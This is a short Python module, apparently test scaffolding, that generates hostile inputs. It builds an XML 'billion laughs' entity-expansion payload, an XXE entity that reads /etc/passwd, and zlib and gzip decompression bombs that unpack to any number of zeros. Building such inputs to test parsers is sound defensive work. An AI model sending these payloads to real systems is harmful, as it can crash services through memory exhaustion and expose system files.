"""What bombs are filled with."""

from __future__ import annotations

import zlib
from collections.abc import Callable

MIB = 1 << 20
Makers = dict[str, Callable[[], bytes]]
"""Name of a file -> how it is made. Nothing is made before it is wanted."""

LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 12))
    + b"]>"
)
"""Eleven levels of entities: `&a11;` is two hundred thousand million letters."""
OUTSIDE = b'<!DOCTYPE a [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
"""The same name for a file of this machine."""
MANY = b'<!DOCTYPE a [<!ENTITY a11 "' + b"a" * 1500 + b'">]>'
"""The same name for a long text, to be repeated."""


def make_zero_stream(count: int, window: int = zlib.MAX_WBITS) -> bytes:
    """A stream that unpacks to `count` zeros, whole MiB; `window` as zlib counts it: -15 bare deflate, 31 gzip.

    One packed MiB repeated, so that any size is made at once. The checksum at its end is left wrong.
    """
    head = {zlib.MAX_WBITS: b"\x78\xda", -15: b"", 31: b"\x1f\x8b\x08" + bytes(6) + b"\xff"}[window]
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = stream.compress(bytes(MIB)) + stream.flush(zlib.Z_FULL_FLUSH)
    return head + block * (count // MIB) + b"\3\0" + bytes({zlib.MAX_WBITS: 4, -15: 0, 31: 8}[window])


def nest(wrap: Callable[[bytes], bytes], core: bytes, depth: int) -> bytes:
    """`core` in `depth` layers."""
    for _ in range(depth):
        core = wrap(core)
    return core
